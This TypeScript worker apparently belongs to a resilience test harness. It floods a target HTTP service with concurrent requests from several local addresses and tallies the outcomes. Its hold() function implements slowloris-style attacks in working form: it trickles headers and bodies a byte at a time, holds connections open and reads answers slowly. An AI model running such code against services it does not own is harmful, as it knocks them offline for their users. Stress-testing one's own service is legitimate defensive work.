import { once } from "node:events";
import { Agent } from "node:http";
import { connect } from "node:net";
import { ignore, pause } from "../../config/async.ts";
import { receiveMessage, sendMessage } from "../shared/process.ts";
import { type AttackRequest, attacks, readTarget } from "./attacks.ts";
import { outcomeOf } from "./probe.ts";

/* A process that attacks the service: it sends requests, `inFlight` at a time, until the time is over. */

export type AttackJob = {
  attack: string;
  url: string;
  /** The addresses of this machine to send from: one for each request in flight, or one for all. */
  addresses: string[];
  inFlight: number;
  seconds: number;
};

/**
 * The number of requests by status, or by error code if there was no answer. Sent once everything is prepared, and at the end. The
 * attack begins with any message.
 */
export type Tally = Record<string, number>;

/** How long a client whose connection was refused or closed waits before it connects again. */
const reconnectMs = 1_000;
/** How often a client that is slow on purpose sends another byte. */
const trickleMs = 1_000;

const { attack, url, addresses, inFlight, seconds } = await receiveMessage<AttackJob>();
const make = await attacks[attack]?.prepare(await readTarget(url));
if (make === undefined) throw new Error(`there is no attack ${attack}`);
const tally: Tally = {};
await sendMessage(tally);
await receiveMessage();
const ending = AbortSignal.timeout(seconds * 1_000);
let sent = 0;
await Promise.all(Array.from({ length: inFlight }, (_, slot) => keepSending(make, slot)));
await sendMessage(tally);

async function keepSending(makeRequest: (count: number) => AttackRequest, slot: number): Promise<void> {
  const localAddress = addresses[slot % addresses.length] as string;
  const agent = new Agent({ keepAlive: true, localAddress });
  while (!ending.aborted) {
    const request = makeRequest(sent++);
    const isHeld = request.hold !== undefined;
    const answer = isHeld
      ? await hold(request, localAddress)
      : await outcomeOf(url, request, { agent, signal: ending });
    const isCutShort = !isHeld && ending.aborted && !/^\d/.test(answer);
    const outcome = isCutShort ? "cut short" : answer;
    tally[outcome] = (tally[outcome] ?? 0) + 1;
    if (isHeld) await pause(reconnectMs, ending);
  }
  agent.destroy();
}

/**
 * Opens a connection and keeps it in one state for as long as the service lets it, at most until the end. Resolves to the status of
 * the answer if any came, and to whether the connection was still open at the end.
 */
async function hold(
  { method = "GET", path, headers = {}, body = "", hold: state }: AttackRequest,
  localAddress: string,
): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  const closed = once(socket, "close", { signal: ending });
  let failure: string | undefined;
  let status: string | undefined;
  socket.on("error", (error: NodeJS.ErrnoException) => {
    failure = error.code ?? error.name;
  });
  socket.on("data", (chunk: Buffer) => {
    status ??= /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString("latin1"))?.[1];
    if (state === "answer" && status === "200") socket.pause();
  });

  const lines = Object.entries({ host: hostname, ...headers }).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  );
  const head = `${method} ${path} HTTP/1.1\r\n${lines.join("")}`;
  if (state === "headers") socket.write(`${head}x-slow: `);
  else if (state !== "connection") socket.write(`${head}\r\n`);
  if (state === "answer" || state === "stream") socket.write(body);
  const trickle = setInterval(() => {
    if ((state === "headers" || state === "body") && socket.writable) socket.write("1");
  }, trickleMs);

  // Rejects at the end.
  await closed.catch(ignore);
  clearInterval(trickle);
  const wasHeld = !socket.destroyed;
  socket.destroy();
  return wasHeld ? `${status ?? "open"} held` : (status ?? failure ?? "closed");
}
